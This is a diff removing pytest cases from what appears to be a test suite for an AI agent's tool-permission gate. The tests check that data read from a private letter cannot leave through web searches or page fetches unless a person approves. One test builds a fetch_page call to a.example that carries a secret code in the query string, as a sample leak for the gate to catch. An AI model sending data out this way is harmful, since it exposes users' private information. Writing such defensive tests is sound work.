@@ -366,52 +366,6 @@ async def test_what_is_allowed_for_a_conversation_covers_that_file_alone_and_not
     assert (len(person.asked), len(ran.calls)) == (8, 3)
 
 
-_LETTER = "Dear Sir, the account is DE89370400440532013000 and the code is zx81-4711-qq."
-
-
-@pytest.mark.parametrize(
-    "query",
-    [
-        "DE89370400440532013000",
-        "what is ZX81-4711-QQ?",
-        "zx81%2D4711%2Dqq",
-        "Dear sir the account",
-        "dear-sir--the-account is overdrawn",
-    ],
-)
-async def test_a_person_is_asked_before_their_own_data_leaves_in_a_search(query: str) -> None:
-    assert await _asked_about_search(query) == 1
-
-
-@pytest.mark.parametrize(
-    "query", ["how to write dear sir", "what is an account code", "museums on the coast"]
-)
-async def test_a_search_with_single_words_of_own_data_runs_without_a_question(query: str) -> None:
-    assert await _asked_about_search(query) == 0
-
-
-async def test_own_data_does_not_leave_to_a_host_that_was_allowed_for_the_conversation() -> None:
-    ran, person = Ran(_LETTER), Person("for_conversation")
-    one = gate(group(*_files(ran)), person=person)
-    read = call("read_file", {"path": "own/a"})
-    pages = [call("fetch_page", {"url": f"https://a.example/{end}"}, call_id=end) for end in ("1", "2")]
-    await propose(one, read, *pages, scope=scope())
-    assert len(person.asked) == 1
-    person.answer = "refused"
-    sent = call("fetch_page", {"url": "https://a.example/?d=zx81-4711-qq"}, call_id="3")
-    (result,) = await propose(one, sent, scope=scope())
-    assert (result.success, len(person.asked)) == (False, 2)
-
-
-async def _asked_about_search(query: str) -> int:
-    """How often a person is asked if a conversation has read a letter and then searches."""
-    person, letter = Person("refused"), Ran(_LETTER)
-    one = gate(group(*_files(letter)), person=person)
-    read = call("read_file", {"path": "own/a"})
-    await propose(one, read, call("search_web", {"text": query}, call_id="2"), scope=scope())
-    return len(person.asked)
-
-
 async def test_tools_of_others_cannot_be_allowed_for_a_conversation() -> None:
     person = Person()
     one = gate(group(tool("write_file", Ran(), schema=_WRITE, built_in=False)), person=person)
